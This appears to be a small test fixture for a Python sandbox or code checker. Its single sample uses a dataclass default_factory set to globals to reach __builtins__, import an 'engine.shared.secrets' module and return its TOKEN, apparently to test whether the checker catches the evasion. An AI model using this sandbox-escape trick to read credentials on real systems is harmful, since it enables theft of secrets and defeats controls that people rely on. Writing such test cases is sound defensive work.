#: channel = dynamic-code
#: reaches = engine
#: layer = check
#: note = a dataclass field's default factory is globals

from dataclasses import dataclass, field


@dataclass
class Job:
    scope: dict = field(default_factory=globals)


async def run(context):
    return Job().scope["__builtins__"]["__import__"]("engine.shared.secrets", fromlist=["x"]).TOKEN
